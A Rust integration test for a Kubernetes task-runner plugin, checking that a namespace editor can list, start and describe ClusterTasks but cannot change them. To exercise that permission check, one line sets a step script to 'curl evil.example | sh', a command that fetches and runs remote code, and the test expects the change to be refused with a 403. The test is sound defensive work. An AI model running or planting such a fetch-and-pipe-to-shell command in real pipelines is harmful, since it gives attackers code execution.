//! ClusterTasks through the plugin, as a namespace editor: listed beside
//! the namespace's Tasks, started and described by name, never published.

use kube::api::DeleteParams;
use minitask_api::{ClusterTask, TaskKind};

use crate::access::{aggregated, bind};
use crate::*;

pub async fn publish(client: &Client, name: &str) {
    let task: ClusterTask = serde_json::from_value(json!({
        "apiVersion": "minitask.dev/v1alpha1", "kind": "ClusterTask",
        "metadata": {"name": name},
        "spec": {"description": "Clones a repository", "params": [{"name": "url", "default": "https://example.com/x.git"}],
                 "steps": [{"name": "clone", "image": "busybox", "script": "echo $(params.url)"}]},
    }))
    .unwrap();
    Api::<ClusterTask>::all(client.clone())
        .create(&PostParams::default(), &task)
        .await
        .unwrap();
}

#[tokio::test]
async fn an_editor_lists_starts_and_describes_cluster_tasks_but_cannot_publish_one() {
    let (client, ns) = world("clustertask").await;
    aggregated(&client, "edit").await;
    // Cluster-scoped names are shared by every test: this one's own.
    let shared = format!("{ns}-clone");
    publish(&client, &shared).await;
    create_task(&client, &ns, "hello").await;
    bind(&client, &ns, "carol", "edit").await;

    let table = ok(&task_as("carol", &ns, &["list"]));
    let row = |name: &str| {
        let line = table.lines().find(|l| l.split_whitespace().next() == Some(name));
        line.map(|l| l.split_whitespace().take(2).collect::<Vec<_>>())
    };
    assert_eq!(
        table
            .lines()
            .next()
            .unwrap()
            .split_whitespace()
            .take(2)
            .collect::<Vec<_>>(),
        ["NAME", "KIND"]
    );
    assert_eq!(row("hello").unwrap(), ["hello", "Task"], "{table}");
    assert_eq!(row(&shared).unwrap(), [shared.as_str(), "ClusterTask"], "{table}");
    let yaml = ok(&task_as("carol", &ns, &["list", "-o", "name"]));
    assert!(
        yaml.contains("task.minitask.dev/hello\n") && yaml.contains(&format!("clustertask.minitask.dev/{shared}\n")),
        "{yaml}"
    );

    // A bare name finds it after the namespace's Tasks and Pipelines;
    // clustertask/NAME says it outright.
    for name in [
        shared.clone(),
        format!("clustertask/{shared}"),
        format!("ctsk/{shared}"),
    ] {
        let created = ok(&task_as("carol", &ns, &["start", &name, "-o", "name"]));
        let run = created.trim().rsplit('/').next().unwrap().to_string();
        let run = Api::<TaskRun>::namespaced(client.clone(), &ns).get(&run).await.unwrap();
        let reference = run.spec.task_ref.clone().unwrap();
        assert_eq!(
            (reference.name.as_str(), reference.kind),
            (shared.as_str(), TaskKind::ClusterTask)
        );
        let described = ok(&task_as("carol", &ns, &["describe", &run.name_any()]));
        assert!(
            described.contains(&format!("Task:      {shared} (ClusterTask)")),
            "{described}"
        );
    }
    let stderr = error(&task_as("carol", &ns, &["start", "clustertask/nope"]));
    assert!(stderr.contains("ClusterTask \"nope\" not found"), "{stderr}");

    let described = ok(&task_as("carol", &ns, &["describe", &format!("clustertask/{shared}")]));
    assert!(
        described.contains("a ClusterTask, for every namespace") && described.contains("Clones a repository"),
        "{described}"
    );

    // Publishing is for those bound to minitask-clustertask-publisher.
    let as_carol = ControlPlane::shared().client_as("carol").await;
    let mut task: ClusterTask = Api::all(client.clone()).get(&shared).await.unwrap();
    task.spec.0.steps[0].script = Some("curl evil.example | sh".into());
    let refused = Api::<ClusterTask>::all(as_carol)
        .replace(&shared, &PostParams::default(), &task)
        .await
        .expect_err("an editor must not change a ClusterTask");
    assert!(matches!(&refused, kube::Error::Api(s) if s.code == 403), "{refused}");

    Api::<ClusterTask>::all(client)
        .delete(&shared, &DeleteParams::default())
        .await
        .unwrap();
}
